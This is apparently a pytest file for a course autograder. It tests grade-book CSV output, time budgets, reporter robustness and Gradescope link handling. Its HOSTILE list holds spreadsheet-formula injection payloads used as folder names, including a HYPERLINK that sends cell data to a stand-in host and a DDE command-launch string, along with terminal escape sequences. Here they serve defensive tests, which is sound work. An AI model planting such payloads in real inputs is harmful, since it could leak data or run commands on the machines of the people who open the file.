"""The intake catalog graded as one class by ``nn101 grade-all``: scores, notes, and a grade book
that no student-chosen name can turn against the course staff (formulas, terminal escapes)."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
import time
import zipfile
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

from autograder import cli, runner, summary
from autograder.batch import remove_tree
from autograder.checks.core import load_checks
from autograder.exercises import select
from autograder.models import TIMEOUT, CheckResult, ExerciseResult, Results
from autograder.reporters import FORMATS
from test_intake import CATALOG, NAMES, both, make_catalog, put, solution

ROOT = Path(__file__).resolve().parent.parent
POINTS = {name: sum(c.points for c in load_checks(name)) for name in NAMES}
HOSTILE = ['=HYPERLINK("http:\\\\x.example?s="&B3,"click")', "=cmd|' C calc'!A0", "+SUM(1,1)", "@SUM(1,1)",
           "-2+3", "\x1b[2J\x1b[31mred", "\u202eevil"]  # folder names (no "/" in a file name)


def nn101(*args: str) -> subprocess.CompletedProcess:
    env = dict(os.environ, TF_CPP_MIN_LOG_LEVEL="3", PYTHONPATH=str(ROOT))
    return subprocess.run([sys.executable, "-m", "autograder", *args], env=env, capture_output=True, text=True,
                          timeout=600)


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    folder = tmp_path_factory.mktemp("class")
    subs, _ = make_catalog(folder)
    for name in HOSTILE:
        put(subs / name, {"notes.txt": b"nothing to grade"})
    (subs / HOSTILE[0] / "softmax.py").write_text("raise ValueError('\\x1b[31m=1+1 \\ud800')\n")
    done = nn101("grade-all", str(subs), "--output", str(folder / "out" / "grades.csv"), "--only", ",".join(NAMES),
                 "--jobs", "2")
    rows = list(csv.reader((folder / "out" / "grades.csv").open(encoding="utf-8")))
    yield done, rows, folder
    remove_tree(folder)


def test_every_catalog_submission_gets_its_grade_and_note(graded):
    done, rows, folder = graded
    assert done.returncode == 0, done.stderr  # nothing in the catalog is the grader's fault
    header, body = rows[0], rows[1:]
    by_id = {row[0]: dict(zip(header, row)) for row in body}
    for case in CATALOG:
        row = by_id[case.student]
        expected = sum(POINTS[name] for name in case.full)
        assert float(row["score"]) == expected, (case.student, row)
        assert row["status"] == ("error" if case.error else "graded"), case.student
        assert case.note in row["note"], (case.student, row["note"])
        for name, source in case.sources.items():
            assert f"{name}: {source}" in row["graded files"], case.student
        record = json.loads((folder / "out" / "grades" / f"{case.student}.json").read_text())
        assert {e["name"]: e["source"] for e in record["exercises"] if e["source"]} == case.sources


def test_the_summary_counts_every_row_of_the_grade_book(graded):
    done, rows, _ = graded
    students = len(rows) - 1
    assert f"{students} students (" in done.stdout and f"Grade book: " in done.stdout
    assert f"({students} students, {students} graded now)" in done.stdout


def test_no_cell_a_student_named_is_a_formula_and_no_escape_reaches_any_output(graded):
    done, rows, folder = graded
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "-")]
    ids = {row[0] for row in rows[1:]}
    assert "'=cmd\\|' C calc'!A0" in ids and "'+SUM(1,1)" in ids  # neutralised by defusedcsv, still readable
    texts = [done.stdout, done.stderr, (folder / "out" / "grades.csv").read_text()]
    texts += [p.read_text() for p in (folder / "out" / "grades").glob("*.json")]
    for text in texts:
        assert "\x1b" not in text and "\u202e" not in text


def test_odd_text_never_breaks_a_reporter_and_junit_stays_parseable():
    message = "bad \x1b[31mred\x00 \ud800 \u202e end"
    checks = (CheckResult("softmax", "example \x07", 1.0, "error", message),)
    results = Results("sub\x1bmission", (ExerciseResult("softmax", checks, source="my_work/\x1bsoftmax.py"),),
                      student_id="\ud800id", warnings=("note \x1b",))
    for name, render in FORMATS.items():
        text = render(results)
        text.encode("utf-8")  # a lone surrogate would fail here
        assert "\x1b" not in text and "\x00" not in text and "\u202e" not in text, name
        assert "softmax.py" in text, f"{name} does not say which file was graded"
    ET.fromstring(FORMATS["junit"](results).split("\n", 1)[1])


def test_a_slow_submission_stops_at_its_time_budget(tmp_path):
    put(tmp_path, {"softmax.py": solution("softmax") + b"\nimport time\n_real = softmax\n\n"
                   b"def softmax(*args, **kwargs):\n    time.sleep(0.4)\n    return _real(*args, **kwargs)\n"})
    results = runner.grade(tmp_path, select("softmax"), budget=0.5)
    statuses = [c.status for c in results.checks]
    assert statuses[-1] == TIMEOUT and results.return_code == 0
    assert all("time budget for this submission" in c.message.lower() for c in results.checks if c.status == TIMEOUT)
    assert "time budget for this submission used up" in runner.BUDGET_MESSAGE.lower()


def test_no_call_runs_past_the_time_budget(tmp_path):
    """Finding 13: a call just under the per-call limit, started just before the budget ran out,
    used to run its full limit (each call now gets at most the budget's time left)."""
    put(tmp_path, {"softmax.py": solution("softmax") + b"\nimport time\n_real = softmax\n\n"
                   b"def softmax(*args, **kwargs):\n    time.sleep(4.5)\n    return _real(*args, **kwargs)\n"})
    started = time.monotonic()
    results = runner.grade(tmp_path, select("softmax"), budget=1.0)
    assert time.monotonic() - started < 4.0  # worker start + 1 s, not + 4.5 s per call
    assert all(c.status == TIMEOUT and "time budget for this submission" in c.message.lower() for c in results.checks)
    assert "ran out during this check, at softmax()" in results.checks[0].message


@pytest.mark.parametrize("make, message", [
    (lambda out: out.mkdir(), "is a folder: give a file name ending in .csv"),
    (lambda out: (out.parent / "g").write_text(""), "must be a folder for the per-student JSON"),
])
def test_output_that_cannot_be_the_grade_book_is_one_line_and_leaves_nothing(tmp_path, capsys, make, message):
    put(tmp_path / "subs" / "ann", both())
    out = tmp_path / "out" / ("g.csv" if "JSON" in message else "grades")
    out.parent.mkdir()
    make(out)
    before = sorted(out.parent.iterdir())
    assert cli.main(["grade-all", str(tmp_path / "subs"), "--output", str(out)]) == 2
    err = capsys.readouterr().err
    assert message in err and err.count("\n") == 1 and "Traceback" not in err
    assert sorted(out.parent.iterdir()) == before


def test_help_says_where_the_json_goes():
    help_text = " ".join(nn101("grade-all", "--help").stdout.split())
    assert "g/ for g.csv" in help_text and "--budget SECONDS" in help_text


def test_one_student_is_singular(tmp_path):
    put(tmp_path / "subs" / "ann", {"quiz.py": (ROOT / "solutions" / "quiz.py").read_bytes()})
    done = nn101("grade-all", str(tmp_path / "subs"), "--output", str(tmp_path / "g.csv"), "--only", "quiz")
    assert done.returncode == 0, done.stderr
    assert "(1 student, 1 graded now)" in done.stdout and done.stdout.startswith("1 student, mean")


def test_the_plot_counts_whole_students():
    overview = summary.summarize([{"score": s, "max_score": 10, "exercises": [
        {"name": "quiz", "score": s, "max_score": 10, "checks": [{"name": "q", "status": "passed"}]}]}
        for s in (3, 7)])
    figure = summary.figure(overview)
    ticks = figure.axes[0].get_yticks()
    assert len(ticks) > 1 and all(float(t).is_integer() for t in ticks)


def test_gradescope_grades_the_chosen_files_and_never_follows_a_link(tmp_path):
    from autograder import gradescope

    (tmp_path / "linked" / "submission").mkdir(parents=True)
    (tmp_path / "linked" / "submission" / "exercises").symlink_to(ROOT / "solutions")
    put(tmp_path / "kit" / "submission", {"nn101/exercises/softmax.py": (ROOT / "exercises" / "softmax.py").read_bytes(),
                                          "nn101/my_work/softmax (1).py": solution("softmax")})
    linked = gradescope.run(tmp_path / "linked", select("softmax"))
    kit = gradescope.run(tmp_path / "kit", select("softmax"))
    assert linked.points == 0 and kit.points == kit.max_points > 0
    output = json.loads((tmp_path / "kit" / "results" / "results.json").read_text())["output"]
    assert "Graded softmax: nn101/my_work/softmax (1).py." in output and "(the name differs)" in output
    assert "a link" in json.loads((tmp_path / "linked" / "results" / "results.json").read_text())["output"]
